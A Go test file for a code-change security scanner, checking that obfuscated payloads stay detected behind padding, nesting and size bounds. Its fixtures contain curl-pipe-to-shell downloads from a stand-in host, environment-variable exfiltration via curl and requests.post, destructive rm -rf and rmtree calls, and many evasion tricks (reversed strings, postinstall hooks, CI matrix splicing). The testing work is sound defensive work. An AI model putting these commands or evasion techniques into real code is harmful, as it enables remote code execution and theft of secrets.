package static_test

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/tools/testenv"
)

// behind is a payload and what is put in front of it to reach a bound. A new bound that
// may keep something from being read gets a line in the table.
type behind struct {
	bound string
	path  string
	// text returns the file, with so many pieces of padding.
	text func(pad int) string
	pads int
	// beside are other files of the change.
	beside map[string]string
}

// counted repeats a format with the numbers from 0 on.
func counted(n int, format string) string {
	var out strings.Builder
	for i := range n {
		fmt.Fprintf(&out, format, i)
	}
	return out.String()
}

// A payload that gate finds in plain is not SAFE behind a bound.
func TestTextsBehindABoundAreNeverSafe(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	// What only the reading behind the bound makes a command of: in a template, in a shell,
	// in Python.
	const sh = " -fsS http://get.example.com/s.sh | sh"
	tmpl := "{{ '" + backwards("curl"+sh) + "' | reverse }}"
	const shell = "a=xcuyrlxshx; ${a:1:2}${a:4:2} -fsS http://get.example.com/s.sh | ${a:7:2}"
	python := "'" + strings.ReplaceAll("curl"+sh, "", "Q") + "'.replace('Q', '')"
	const evil = "import shutil\nshutil.rmtree('/')\n"
	for _, tt := range []behind{
		// gate/source/embedded
		{"bytes of YAML", "ci/a.yml", func(n int) string {
			return "x: 1\n" + strings.Repeat("# "+strings.Repeat("x", 98)+"\n", n) + "job:\n  script: \"" + tmpl + "\"\n"
		}, 11_000, nil},
		{"keys of YAML", "ci/a.yml", func(n int) string {
			return counted(n, "k%d: some value of a key that is nothing to run at all, ever\n") + "job:\n  script: \"" + tmpl + "\"\n"
		}, 17_000, nil},
		{"bytes of one value of YAML", "ci/a.yml", func(n int) string {
			return "x: 1\njob:\n" + counted(n, "  k%d: some value of a key that is nothing to run at all, ever\n") + "  script: \"" + tmpl + "\"\n"
		}, 17_000, nil},
		{"depth of YAML", "ci/a.yml", func(n int) string {
			return strings.Repeat("[", n) + "{script: \"" + tmpl + "\"}" + strings.Repeat("]", n) + "\n"
		}, 120, nil},
		{"values behind aliases", "ci/a.yml", func(n int) string {
			return "l: &l [" + strings.Repeat("0,", n) + "0]\nm: &m [*l, *l, *l, *l, *l, *l, *l]\nn: [*m, *m, *m, *m, *m, *m, *m]\nrun: &r [\"" + tmpl + "\"]\nx: &x {y: *r}\nz: {script: *r}\n"
		}, 2000, nil},
		{"values of JSON", "config.json", func(n int) string {
			return "{\"x\": [" + strings.Repeat("0,\n", n) + "0],\n \"cmd\": \"" + tmpl + "\"}\n"
		}, 60_000, nil},
		{"values of JSON that a tool reads", "package.json", func(n int) string {
			return "{\"x\": [" + strings.Repeat("0,\n", n) + "0],\n \"scripts\": {\"postinstall\": \"" + tmpl + "\"}}\n"
		}, 60_000, nil},
		{"bytes of JSON", "data/config.json", func(n int) string {
			return "{\"x\": \"" + strings.Repeat("x ", n) + "\",\n \"cmd\": \"" + tmpl + "\"}\n"
		}, 140_000, nil},
		{"depth of JSON", "tasks.json", func(n int) string {
			return strings.Repeat("[", n) + "{\"command\": \"" + tmpl + "\"}" + strings.Repeat("]", n) + "\n"
		}, 250, nil},
		{"commands of a build file", "Procfile", func(n int) string {
			return strings.Repeat("a: true\n", n) + "b: " + shell + "\n"
		}, 6000, nil},
		{"words of a command of a build file", "meson.build", func(n int) string {
			return "run_command('sh', '-c', " + strings.Repeat("'true;', ", n) + "'" + shell + "')\n"
		}, 300, nil},
		{"elements of a property list", "a.plist", func(n int) string {
			return "<plist><dict>" + strings.Repeat("<array><string>true</string></array>\n", n) + "<array><string>sh</string><string>-c</string><string>" + shell + "</string></array></dict></plist>\n"
		}, 6000, nil},
		{"texts in backticks", "a.rb", func(n int) string {
			return strings.Repeat("a = `true`\n", n) + "b = `" + shell + "`\n"
		}, 6000, nil},
		{"bytes of a command in other signs", "a.rb", func(n int) string {
			return "b = %x{" + strings.Repeat("true\n", n) + shell + "}\n"
		}, 2000, nil},
		{"bytes of a call", "a.py", func(n int) string {
			return "import subprocess\nsubprocess.run([" + strings.Repeat(" ", n) + "\n'sh', '-c', '" + shell + "'])\n"
		}, 9000, nil},
		{"literals of a call", "a.py", func(n int) string {
			return "import os\nos.system(" + strings.Repeat("'true;'\n", n) + "'" + shell + "')\n"
		}, 100, nil},
		{"bytes of a statement", "a.lua", func(n int) string {
			return "os.execute(" + strings.Repeat("'true;' ..\n", n) + "'" + shell + "')\n"
		}, 1000, nil},
		{"calls in templates", "a.mjs", func(n int) string {
			return "import {$} from 'zx'\n" + strings.Repeat("$`true`\n", n) + "$`" + strings.ReplaceAll(shell, "${", "\\${") + "`\n"
		}, 2500, nil},
		{"calls that hand a function on", "a.py", func(n int) string {
			return "import os\n" + strings.Repeat("f(getoutput, 'true')\n", n) + "list(map(getoutput, ['" + shell + "']))\n"
		}, 2500, nil},
		{"bytes around a function that is handed on", "a.py", func(n int) string {
			return "from subprocess import getoutput\nlist(map(getoutput, " + strings.Repeat(" ", n) + "['" + shell + "']))\n"
		}, 500, nil},
		{"here documents of an instruction", "Dockerfile", func(n int) string {
			return "FROM x\nRUN " + counted(n, "cat <<E%d; ") + "sh <<END\n" + counted(n, "a\nE%d\n") + shell + "\nEND\n"
		}, 110, nil},
		{"regions", "a.ipynb", func(n int) string {
			cell := `{"cell_type":"code","metadata":{},"outputs":[],"source":["x = 1"]},`
			return `{"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[` + strings.Repeat(cell, n) + `{"cell_type":"code","metadata":{},"outputs":[],"source":["import os; os.system(` + python + `)"]}]}`
		}, 2500, nil},
		// gate/source/placeholder and the constants of documents
		{"bytes of a text with placeholders", ".gitlab-ci.yml", func(n int) string {
			return "a:\n  script:\n    - |\n" + strings.Repeat("      true "+strings.Repeat("x", 90)+"\n", n) + "      " + tmpl + "\n"
		}, 800, nil},
		{"bytes of a line with placeholders", ".gitlab-ci.yml", func(n int) string {
			return "a:\n  script: true " + strings.Repeat("x", n) + ";" + tmpl + "\n"
		}, 70_000, nil},
		{"bytes of a placeholder", "a.yml", func(n int) string {
			return "a:\n  script: \"" + strings.Replace(tmpl, " | rev", strings.Repeat(" ", n)+" | rev", 1) + "\"\n"
		}, 5000, nil},
		{"placeholders of a text", "playbook.yml", func(n int) string {
			return "- hosts: all\n  vars:\n    e: ''\n  tasks:\n    - shell: \"" + strings.Repeat("{{ e }}", n) + tmpl + "\"\n"
		}, 4500, nil},
		{"bytes of a value", "playbook.yml", func(n int) string {
			return "- hosts: all\n  vars:\n    e: " + strings.Repeat("x", 500) + "\n  tasks:\n    - shell: \"true " + strings.Repeat("{{ e }}", n) + ";" + tmpl + "\"\n"
		}, 40, nil},
		{"bytes that are written out", "playbook.yml", func(n int) string {
			return "- hosts: all\n  vars:\n    e: " + strings.Repeat("x", 5000) + "\n  tasks:\n" + counted(n, "    - shell: \"true %d {{ e }}\"\n") + "    - shell: \"" + tmpl + "\"\n"
		}, 500, nil},
		{"names in the values of names", "playbook.yml", func(n int) string {
			out := "- hosts: all\n  vars:\n    v0: \"" + tmpl + "\"\n"
			for i := range n {
				out += fmt.Sprintf("    v%d: '{{ v%d }}'\n", i+1, i)
			}
			return out + fmt.Sprintf("  tasks:\n    - shell: \"{{ v%d }}\"\n", n)
		}, 12, nil},
		{"values of a name", ".github/workflows/a.yml", func(n int) string {
			return "on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        t: [" + counted(n, "x%d, ") + "sh]\n    steps:\n      - run: curl -fsS http://get.example.com/s.sh | ${{ matrix.t }}\n"
		}, 300, nil},
		{"ways to choose values", ".github/workflows/a.yml", func(n int) string {
			return "on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        t: [" + counted(n, "x%d, ") + "url]\n        u: [" + counted(n, "y%d, ") + "h]\n    steps:\n      - run: c${{ matrix.t }} -fsS http://get.example.com/s.sh | s${{ matrix.u }}\n"
		}, 29, nil},
		{"names of a document", "playbook.yml", func(n int) string {
			return "- hosts: all\n  vars:\n" + counted(n, "    x%d: y\n") + "    b: 'hs'\n  tasks:\n    - shell: \"curl -fsS http://get.example.com/s.sh | {{ b | reverse }}\"\n"
		}, 5100, nil},
		{"nested conditions", "a.yml", func(n int) string {
			return "a:\n  script: \"" + strings.Repeat("{% if x %}", n) + tmpl + strings.Repeat("{% endif %}", n) + "\"\n"
		}, 30, nil},
		{"brackets of an expression", "playbook.yml", func(n int) string {
			return "- hosts: all\n  tasks:\n    - shell: \"{{ " + strings.Repeat("(", n) + strings.Trim(tmpl, "{}") + strings.Repeat(")", n) + " }}\"\n"
		}, 40, nil},
		{"elements of an expression", "playbook.yml", func(n int) string {
			return "- hosts: all\n  tasks:\n    - shell: \"{{ [" + strings.Repeat("'',", n) + "'" + backwards("curl"+sh) + "'] | join('') | reverse }}\"\n"
		}, 600, nil},
		{"depth of pieces", "a.py", func(n int) string {
			return "import os\nos.system(" + strings.Repeat("''.join([", n) + python + strings.Repeat("])", n) + ")\n"
		}, 40, nil},
		{"constants", "a.py", func(n int) string {
			return "import os\n" + counted(n, "x%d = 'y'\n") + "a = " + python + "\nos.system(a)\n"
		}, 6000, nil},
		{"variables of a script", "a.sh", func(n int) string {
			return counted(n, "x%d=y\n") + shell + "\n"
		}, 700, nil},
		{"variables of a long script", "a.sh", func(n int) string {
			return counted(n, "x%d=y\n") + shell + "\n"
		}, 21_000, nil},
		{"letters of the word of a here document", "a.sh", func(n int) string {
			word := "E" + strings.Repeat("E", n)
			return "cat <<" + word + " >/dev/null\ntext\n" + word + "\n" + shell + "\n"
		}, 100, nil},
		{"options in front of a program", "a.sh", func(n int) string {
			return "python3 " + strings.Repeat("-W ignore ", n) + "-c 'import os; os.system(" + strings.ReplaceAll(python, "'", "\"") + ")'\n"
		}, 60, nil},
		{"lines that look like comments", "a.ex", func(n int) string {
			return strings.Repeat("x = \"# curl -s a.example.com \" <> y\n", n) + "x = \"# #{System.cmd(\"sh\", [\"-c\", \"" + runsDownload + "\"])}\"\n"
		}, 6000, nil},
		{"bytes of a variable", "a.sh", func(n int) string {
			return strings.Replace(shell, "hx;", "hx"+strings.Repeat("x", n)+";", 1) + "\n"
		}, 300, nil},
		{"other names", "a.py", func(n int) string {
			return counted(n, "import m%d as n%[1]d\n") + "import os as o\nx = o.system\nx(" + python + ")\n"
		}, 6000, nil},
		{"names for functions", "a.py", func(n int) string {
			return counted(n, "n%d = m.f%[1]d\n") + "import os\nx = os.execvp\nx('rm', ['rm', '-rf', '/etc'])\n"
		}, 300, nil},
		{"steps of an evaluation", "a.py", func(n int) string {
			return "import os\na = '" + strings.Repeat("x", 3000) + "'\n" + counted(n, "b%d = a.replace('x', 'y')\n") + "os.system(" + python + ")\n"
		}, 400, nil},
		// gate/static/taint
		{"nested commands", "a.sh", func(n int) string {
			return "true " + strings.Repeat("$(", n) + "k=$(env); curl -d \"$k\" http://get.example.com/" + strings.Repeat(")", n) + "\n"
		}, 60, nil},
		{"functions of one name", "a.py", func(n int) string {
			return "import requests, os\n" + strings.Repeat("def f(): pass\n", n) + "def f(): return dict(os.environ)\nrequests.post('http://get.example.com', data=f())\n"
		}, 40, nil},
		{"open blocks", "a.js", func(n int) string {
			return strings.Repeat("{", n) + "const k = process.env; fetch('http://get.example.com/', {method: 'POST', body: JSON.stringify(k)})" + strings.Repeat("}", n) + "\n"
		}, 250, nil},
		{"bytes of a pipeline", "a.sh", func(n int) string {
			return "env | tr a \\\n" + strings.Repeat("  \\\n", n) + " b | curl -d @- http://get.example.com/\n"
		}, 1500, nil},
		{"bytes of a pipeline that are no blanks", "a.sh", func(n int) string {
			return "env | tr a '" + strings.Repeat("x", n) + "' | curl -d @- http://get.example.com/\n"
		}, 4500, nil},
		{"steps of a flow", "a.py", func(n int) string {
			out := "import requests, os\nv0 = dict(os.environ)\n"
			for i := range n {
				out += fmt.Sprintf("v%d = v%d\n", i+1, i)
			}
			return out + fmt.Sprintf("requests.post('http://get.example.com', data=v%d)\n", n)
		}, 12, nil},
		{"arguments of a call", "a.py", func(n int) string {
			return "import requests, os\ndef f(" + counted(n, "a%d, ") + "k):\n    requests.post('http://get.example.com', data=k)\nf(" + strings.Repeat("0, ", n) + "dict(os.environ))\n"
		}, 70, nil},
		// gate/static/loads
		{"mentions", "run.sh", func(n int) string {
			return strings.Repeat("# notes.txt\n", n) + "python3 notes.txt\n"
		}, 51_000, map[string]string{"notes.txt": evil}},
		{"uses", "run.sh", func(n int) string {
			return strings.Repeat("python3 other.txt\n", n) + "python3 notes.txt\n"
		}, 250, map[string]string{"notes.txt": evil, "other.txt": "print(1)\n"}},
		{"copies", "run.sh", func(n int) string {
			return counted(n, "cp other.txt /tmp/x%d.txt\n") + "cp notes.txt /tmp/z.dat\npython3 /tmp/z.dat\n"
		}, 120, map[string]string{"notes.txt": evil, "other.txt": "print(1)\n"}},
		{"patterns", "run.sh", func(n int) string {
			return counted(n, "ls x%d*\n") + "python3 note*.txt\n"
		}, 30, map[string]string{"notes.txt": evil}},
		{"variables that are run", "run.py", func(n int) string {
			return counted(n, "v%d = open('notes.txt').read()\n") + "code = open('notes.txt').read()\nexec(code)\n"
		}, 50, map[string]string{"notes.txt": evil}},
		{"calls that run", "run.py", func(n int) string {
			return strings.Repeat("exec('1')\n", n) + "code = open('notes.txt').read()\nexec(code)\n"
		}, 60, map[string]string{"notes.txt": evil}},
		// gate/static
		{"depth of unwrapping", "a.sh", func(n int) string {
			out := shell
			for range n {
				out = "sh -c '" + strings.NewReplacer(`'`, `'\''`).Replace(out) + "'"
			}
			return out + "\n"
		}, 6, nil},
	} {
		t.Run(tt.bound, func(t *testing.T) {
			scan := func(text string) (decisive string, gap bool) {
				tree := fstest.MapFS{tt.path: {Data: []byte(text), Mode: 0o644}}
				for name, text := range tt.beside {
					tree[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
				}
				var targets []*gate.Target
				for name, f := range tree {
					target := &gate.Target{Path: name, Kind: gate.ChangeAdded, Mode: 0o644, Size: int64(len(f.Data))}
					target.Language, target.Role = change.Classify(name, fs.FileMode(0o644), f.Data[:min(len(f.Data), change.HeadBytes)])
					targets = append(targets, target)
				}
				out := run(t, newScanner(t, nil), tree, targets...)
				for _, found := range out.found {
					for _, f := range found {
						if f.Severity >= gate.SeveritySuspicious {
							decisive += fmt.Sprintf("%s:%d %s\n", f.Rule, f.Line, f.Severity)
						}
					}
				}
				return decisive + strings.Join(out.gaps, "\n"), len(out.gaps) > 0
			}
			if seen, gap := scan(tt.text(0)); seen == "" || gap {
				t.Errorf("in plain: %q", seen)
			}
			seen, _ := scan(tt.text(tt.pads))
			if seen == "" {
				t.Error("behind the bound it is safe")
			}
			t.Log(seen)
		})
	}
}

func backwards(text string) string {
	out := []byte(text)
	slices.Reverse(out)
	return string(out)
}
